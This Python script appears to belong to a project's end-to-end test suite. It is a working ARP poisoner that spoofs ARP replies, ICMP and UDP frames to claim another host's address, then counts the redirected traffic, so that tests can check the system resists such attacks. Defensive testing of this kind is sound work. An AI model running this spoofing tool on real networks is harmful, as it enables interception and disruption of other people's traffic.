#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
# Copyright(c) 2026 The shouter authors
"""A neighbour poisoner for the e2e tests (issue 15): from its own namespace on the job's
segment, claims another host's address (CLAIM) towards TARGET, and counts the frames of the
job that reach it.

It sends, on a raw AF_PACKET socket, with its own MAC as the sender: one ARP request "who has
TARGET? tell CLAIM", then, at --rate frames a second, in turn, each of --forms:
  arp   gratuitous ARP replies "CLAIM is at <our MAC>", alternately addressed to TARGET and to
        the broadcast target CLAIM;
  icmp  an ICMP echo request from CLAIM to TARGET;
  udp   a UDP datagram from CLAIM to TARGET's lane port (--port), 64 bytes that are no valid
        message;
until SIGTERM/SIGINT or --seconds. IP frames go to --target-mac (default broadcast). Meanwhile
it counts every IPv4 UDP frame to our MAC from WATCH with a source or destination port in
[--port, --port + 63] (the box's lanes): the job's traffic that the poison redirected. Every
--progress-every frames sent it rewrites --progress-file with "sent=N captured=M" (a test
waits for the attack to be under way); at the end it prints the same line.

  arp_poison.py --iface shr0 --claim 198.18.0.1 --target 198.18.0.10 --watch 198.18.0.10
"""
import argparse
import fcntl
import os
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
SIOCGIFHWADDR = 0x8927
BCAST = b"\xff" * 6


def ifmac(sock, iface):
    req = struct.pack("256s", iface.encode()[:15])
    return fcntl.ioctl(sock.fileno(), SIOCGIFHWADDR, req)[18:24]


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def arp_frame(dst, src, op, sha, spa, tha, tpa):
    eth = dst + src + struct.pack("!H", ETH_P_ARP)
    arp = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op) + sha + spa + tha + tpa
    return (eth + arp).ljust(60, b"\0")


def ip_frame(dst, src, proto, sip, dip, l4):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0x5151, 0, 64, proto, 0, sip, dip)
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return (dst + src + struct.pack("!H", ETH_P_IP) + hdr + l4).ljust(60, b"\0")


def icmp_echo(seq):
    body = struct.pack("!BBHHH", 8, 0, 0, 0x5348, seq & 0xFFFF) + b"shouter-poison"
    return body[:2] + struct.pack("!H", csum(body)) + body[4:]


def udp_dgram(sport, dport, payload):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no checksum


def is_job_frame(frame, mac, src, port):
    """An IPv4 UDP frame from src to our MAC, to or from one of the box's lane ports."""
    if len(frame) < 42 or frame[0:6] != mac or frame[12:14] != b"\x08\x00":
        return False
    if frame[26:30] != src:
        return False
    ihl = (frame[14] & 0x0F) * 4
    if frame[23] != 17 or len(frame) < 14 + ihl + 8:
        return False
    sport, dport = struct.unpack("!HH", frame[14 + ihl:14 + ihl + 4])
    return port <= sport < port + 64 or port <= dport < port + 64


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--claim", required=True, help="the address we pretend to be")
    ap.add_argument("--target", required=True, help="the host we poison")
    ap.add_argument("--watch", required=True, help="count its job frames that reach us")
    ap.add_argument("--target-mac", help="destination MAC of the IP forms (default broadcast)")
    ap.add_argument("--forms", default="arp", help="comma-separated: arp, icmp, udp")
    ap.add_argument("--rate", type=float, default=100.0, help="frames per second")
    ap.add_argument("--seconds", type=float, default=600.0)
    ap.add_argument("--port", type=int, default=47000, help="the box's first lane port")
    ap.add_argument("--progress-file")
    ap.add_argument("--progress-every", type=int, default=50)
    a = ap.parse_args()
    forms = a.forms.split(",")
    if a.rate <= 0 or not forms or any(f not in ("arp", "icmp", "udp") for f in forms):
        ap.error("--rate must be > 0; --forms among arp, icmp, udp")

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((a.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    s.setblocking(False)
    mac = ifmac(s, a.iface)
    claim = socket.inet_aton(a.claim)
    target = socket.inet_aton(a.target)
    watch = socket.inet_aton(a.watch)
    tmac = bytes.fromhex(a.target_mac.replace(":", "")) if a.target_mac else BCAST
    arps = [
        arp_frame(BCAST, mac, 2, mac, claim, b"\0" * 6, target),  # reply, target the host
        arp_frame(BCAST, mac, 2, mac, claim, BCAST, claim),        # gratuitous
    ]
    sent = captured = 0

    def frame(k):
        f = forms[k % len(forms)]
        if f == "arp":
            return arps[(k // len(forms)) % 2]
        if f == "icmp":
            return ip_frame(tmac, mac, 1, claim, target, icmp_echo(k))
        return ip_frame(tmac, mac, 17, claim, target,
                        udp_dgram(a.port, a.port, b"\x5a" * 64))

    def progress(final=False):
        line = f"sent={sent} captured={captured}"
        if a.progress_file:
            tmp = a.progress_file + ".tmp"
            with open(tmp, "w") as f:
                f.write(line + "\n")
            os.replace(tmp, a.progress_file)
        if final:
            print(line, flush=True)

    def drain():
        nonlocal captured
        try:
            while True:
                if is_job_frame(s.recv(65536), mac, watch, a.port):
                    captured += 1
        except BlockingIOError:
            pass

    # the request: "who has TARGET? tell CLAIM (at our MAC)"
    s.send(arp_frame(BCAST, mac, 1, mac, claim, b"\0" * 6, target))
    sent += 1
    gap = 1.0 / a.rate
    t0 = time.monotonic()
    nxt = t0
    while not stop and time.monotonic() - t0 < a.seconds:
        now = time.monotonic()
        if now >= nxt:
            s.send(frame(sent))
            sent += 1
            nxt += gap
            if nxt < now - 1.0:
                nxt = now      # far behind (a loaded machine): do not burst to catch up
            drain()
            if sent % a.progress_every == 0:
                progress()
            continue
        if select.select([s], [], [], max(0.0, nxt - now))[0]:
            drain()
    drain()
    progress(final=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
